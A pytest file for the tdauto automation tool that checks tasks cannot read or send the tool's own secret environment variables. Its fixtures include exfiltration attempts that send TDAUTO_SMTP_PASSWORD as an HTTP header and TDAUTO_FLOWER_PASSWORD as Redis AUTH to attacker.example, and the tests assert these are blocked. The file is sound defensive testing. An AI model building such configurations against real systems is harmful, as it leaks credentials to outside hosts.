"""Which of the worker's environment variables a task may read (issue #18, finding 3).

A task that could name any variable had the worker send ``TDAUTO_SMTP_PASSWORD`` to its own
URL as a header and ``TDAUTO_FLOWER_PASSWORD`` to its own Redis as AUTH. Only names matching
``TDAUTO_TASK_SECRETS`` may be read, tdauto's own ``TDAUTO_*`` never; checked at creation and
again when the worker reads the variable.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from tdauto import AutomationSystems
from tdauto.actions import REGISTRY, load_plugins
from tdauto.actions.programs import SHELL
from tdauto.errors import ActionError
from tdauto.settings import Settings
from tests.support.actions import call, context, make_ctx, run

load_plugins([])


def http_task(params: dict[str, Any]) -> dict[str, Any]:
    return {
        "name": "exfil",
        "type": "deployment",
        "schedule": "interval",
        "schedule_config": {"every": "1h"},
        "actions": [{"type": "http", "params": params}],
    }


def health_task(check: dict[str, Any]) -> dict[str, Any]:
    task = http_task({})
    task["actions"] = [{"type": "health_check", "params": {"checks": [check]}}]
    return task


def create(system: AutomationSystems, task: dict[str, Any]) -> str:
    with pytest.raises((ValidationError, ValueError)) as info:
        asyncio.run(system.create_task(**task))
    assert system.store.list_tasks() == []  # refused before anything is stored
    return str(info.value)


def test_a_task_cannot_send_tdautos_own_secrets_even_when_every_name_is_allowed(
    tmp_path: Path,
) -> None:
    system = AutomationSystems(data_dir=tmp_path / "data", task_secrets=["*"])
    header = http_task(
        {"url": "https://attacker.example/", "headers_env": {"X-Leak": "TDAUTO_SMTP_PASSWORD"}}
    )
    message = create(system, header)
    assert "headers_env: TDAUTO_SMTP_PASSWORD is one of tdauto's own settings" in message
    assert "TDAUTO_TASK_SECRETS" in message
    redis_auth = health_task(
        {
            "type": "redis",
            "url": "redis://attacker.example:6379/0",
            "password_env": "TDAUTO_FLOWER_PASSWORD",
        }
    )
    message = create(system, redis_auth)
    assert "password_env" in message and "TDAUTO_FLOWER_PASSWORD is one of tdauto's" in message
    lower = http_task({"url": "https://a.example/", "headers_env": {"X": "tdauto_broker_url"}})
    assert "one of tdauto's own settings" in create(system, lower)


def test_by_default_tasks_read_no_variable_and_the_error_says_how_to_allow_one(
    tmp_path: Path,
) -> None:
    system = AutomationSystems(data_dir=tmp_path / "data")
    task = http_task({"url": "https://api.example/", "headers_env": {"Authorization": "APP_KEY"}})
    message = create(system, task)
    assert "headers_env: TDAUTO_TASK_SECRETS is empty" in message
    assert "TDAUTO_TASK_SECRETS=APP_*" in message
    postgres = health_task(
        {"type": "postgres", "dsn": "postgresql://app@db.example/app", "password_env": "DB_PW"}
    )
    assert "TDAUTO_TASK_SECRETS is empty" in create(system, postgres)


def test_a_name_outside_the_patterns_is_refused_and_one_inside_is_stored(tmp_path: Path) -> None:
    system = AutomationSystems(data_dir=tmp_path / "data", task_secrets=["APP_*", "DB_*"])
    other = http_task({"url": "https://api.example/", "headers_env": {"X": "AWS_SECRET_KEY"}})
    message = create(system, other)
    assert "AWS_SECRET_KEY does not match TDAUTO_TASK_SECRETS (APP_*,DB_*)" in message
    backup = {
        **http_task({}),
        "type": "maintenance",
        "actions": [
            {
                "type": "backup",
                "params": {"kind": "redis", "url": "redis://r:6379/0", "password_env": "REDIS_PW"},
            }
        ],
    }
    assert "REDIS_PW does not match TDAUTO_TASK_SECRETS" in create(system, backup)
    fine = http_task({"url": "https://api.example/", "headers_env": {"X": "APP_KEY"}})
    assert asyncio.run(system.create_task(**fine)).name == "exfil"


def test_the_worker_checks_again_when_it_reads_the_variable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A task created where APP_* was allowed, run by a worker that allows nothing."""
    monkeypatch.setenv("APP_KEY", "app-secret-1")
    creator = Settings(data_dir=tmp_path / "data", task_secrets=["APP_*"])
    worker = Settings(data_dir=tmp_path / "data")
    params = {"url": "http://127.0.0.1:9/", "headers_env": {"X-Key": "APP_KEY"}}
    model = REGISTRY.parse_params("http", params, context(creator))
    with pytest.raises(ActionError, match="headers_env: TDAUTO_TASK_SECRETS is empty") as info:
        call("http", make_ctx(worker), model)
    assert info.value.kind == "not_allowed"

    check = {"type": "redis", "url": "redis://127.0.0.1:9/0", "password_env": "APP_KEY"}
    model = REGISTRY.parse_params("health_check", {"checks": [check]}, context(creator))
    with pytest.raises(ActionError, match="TDAUTO_TASK_SECRETS is empty") as failed:
        call("health_check", make_ctx(worker), model)
    assert "password_env" in str(failed.value)


def test_programs_actions_run_do_not_inherit_tdautos_secrets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TDAUTO_SMTP_PASSWORD", "smtp-pw-1")
    monkeypatch.setenv("TDAUTO_BROKER_URL_X", "kept")
    monkeypatch.setenv("APP_VISIBLE", "yes")
    (tmp_path / "data").mkdir()
    settings = Settings(data_dir=tmp_path / "data", shell_allow=["printenv"])
    out = run("shell", make_ctx(settings), {"argv": ["printenv"]})
    assert "APP_VISIBLE=yes" in out["output"] and "TDAUTO_BROKER_URL_X=kept" in out["output"]
    assert "smtp-pw-1" not in out["output"] and "TDAUTO_SMTP_PASSWORD" not in out["output"]
    # nor any other program an action runs (deploy commands, verify checks, pg_dump, ...)
    ctx = make_ctx(settings)
    given = ctx.run(
        ["printenv"], programs=SHELL, env={"TDAUTO_ALERT_WEBHOOK_SECRET": "k", "PATH": "/usr/bin"}
    )
    assert "TDAUTO_ALERT_WEBHOOK_SECRET" not in given.output and "PATH=/usr/bin" in given.output
    assert "TDAUTO_SMTP_PASSWORD" not in ctx.run(["printenv"], programs=SHELL).output
